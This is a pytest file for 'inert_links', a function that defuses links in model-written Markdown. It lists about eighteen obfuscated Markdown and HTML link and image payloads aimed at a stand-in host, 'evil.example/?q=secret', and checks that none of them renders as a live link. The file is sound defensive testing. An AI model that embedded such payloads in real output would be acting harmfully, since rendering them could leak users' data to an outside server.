"""Markdown of models leads nowhere but to what was read, in any viewer."""

import re

import pytest
from markdown_it import MarkdownIt

from chargehand.contracts import Source
from workflows.rules.inert_links import inert_links

READ = "https://read.example/a_(b)"
EVIL = "https://evil.example/?q=secret"
HOSTILE = (
    f"![x]({EVIL})",
    f"[x](<{EVIL}>)",
    f"[x](\n  {EVIL} 'title')",
    f"[![x]({EVIL})]({READ})",
    f"[x]({READ}.evil.example)",
    f"[x]({READ}{EVIL})",
    "[x](//evil.example/a)",
    "[x](https&#58;//evil.example/a)",
    "[x](\\/\\/evil.example/a)",
    f"![x][a]\n\n[a]: {EVIL}",
    "![x][a]\n\n> [a]:\n> //evil.example/a",
    "![a]\n\n[a]: &#47;/evil.example/a",
    "![a]\n\n[a]: \\//evil.example/a",
    f"<img src={EVIL}>",
    f'<b style="background:url({EVIL})">x</b>',
    f'<img alt="<" src="{EVIL}">',
    f"<a\nhref='{EVIL}'>x</a>",
    f"<img/src={EVIL}>",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_was_not_read_is_no_link(text: str) -> None:
    """However it is written, a viewer makes no link or picture of it, and shows the whole address."""
    html = MarkdownIt("commonmark").render(inert_links(text, [Source(ref="r", url=READ)]))

    html = re.sub(r'<a href="([^"]*)">\1</a>', r"\1", html)  # what shows its address whole
    assert not re.search(r"<(?:a|img|b)\b[^>]*evil", html)
    assert "evil.example" in html


@pytest.mark.parametrize(
    "text", [f"[x]({READ})", f"[x](<{READ}>)", f'[x]({READ} "t")', "![chart](chart-1.png)", "[S1]", "[x](#S1)", "a < b"]
)
def test_what_was_read_stays_a_link(text: str) -> None:
    """Sources, files of the report and places in it are left as they are."""
    assert inert_links(text, [Source(ref="r", url=READ)]) == text
